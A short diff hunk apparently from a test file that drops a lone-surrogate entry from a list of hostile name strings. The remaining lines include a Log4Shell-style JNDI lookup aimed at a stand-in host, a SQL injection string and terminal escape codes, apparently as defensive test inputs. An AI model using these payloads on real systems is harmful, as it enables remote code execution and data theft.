@@ -107,7 +107,6 @@ NAMES = [
     "x\x85{}",
     "\x00",
     "\u202egpj",
-    "\ud800",
     "\x1b[2J",
     "${jndi:ldap://evil.example/a}",
     "' or 1=1 --",
